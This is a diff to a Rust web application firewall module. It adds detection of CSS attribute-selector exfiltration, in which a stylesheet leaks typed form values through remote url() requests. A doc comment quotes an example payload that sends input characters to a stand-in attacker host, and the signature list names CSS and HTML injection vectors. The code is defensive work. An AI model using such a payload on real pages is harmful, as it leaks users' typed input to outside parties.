@@ -8,6 +8,8 @@ use crate::waf::scan::{Needles, at, before, find, is_word, last_before, skip_spa
 
 /// Bytes of a style sheet looked at.
 const REACH: usize = 512;
+/// Bytes between a selector and the URL that its rule loads.
+const REPORT_REACH: usize = 120;
 
 static SIGNS: Needles<'static> = Needles::new(&[
     b"-moz-binding",
@@ -18,6 +20,7 @@ static SIGNS: Needles<'static> = Needles::new(&[
     b"srcdoc",
     b"formaction",
     b"<style",
+    b"[value",
 ]);
 
 /// Finds them in one pass.
@@ -41,6 +44,7 @@ fn judge(text: &[u8], start: usize, end: usize, sign: &[u8]) -> Option<&'static 
         b"behavior:" | b"behaviour:" => {
             stands(text, next, b"url(") || stands(text, next, b"expression")
         }
+        b"[value" => reports(text, end),
         b"<style" => return sheet(text, start).then_some(&rules::STYLE),
         _ => {
             let is_attribute = !is_word(before(text, start))
@@ -52,7 +56,14 @@ fn judge(text: &[u8], start: usize, end: usize, sign: &[u8]) -> Option<&'static 
     breaks.then_some(&rules::STYLE)
 }
 
-/// Whether a style element imports from elsewhere, runs, or reports what it matches.
+/// `input[value^=a]{background:url(//evil.example/a)}` reports what was typed.
+fn reports(text: &[u8], end: usize) -> bool {
+    let rest = span(text, end, end + REPORT_REACH);
+    matches!(at(rest, 0), b'^' | b'$' | b'*' | b'~' | b'=')
+        && find(rest, b"url(", 0).is_some_and(|url| is_foreign(value(rest, url + 4)))
+}
+
+/// Whether a style element imports from elsewhere.
 fn sheet(text: &[u8], start: usize) -> bool {
     let Some(tag) = Tag::at(text, start).filter(|tag| tag.name == b"style") else {
         return false;
@@ -73,10 +84,5 @@ fn sheet(text: &[u8], start: usize) -> bool {
         };
         is_foreign(value(rest, target)) && find(rest, b"fonts.googleapis.com", 0).is_none()
     });
-    let reports = || {
-        find(rest, b"[value", 0)
-            .and_then(|selector| find(rest, b"url(", selector))
-            .is_some_and(|url| is_foreign(value(rest, url + 4)))
-    };
-    imports || reports()
+    imports
 }
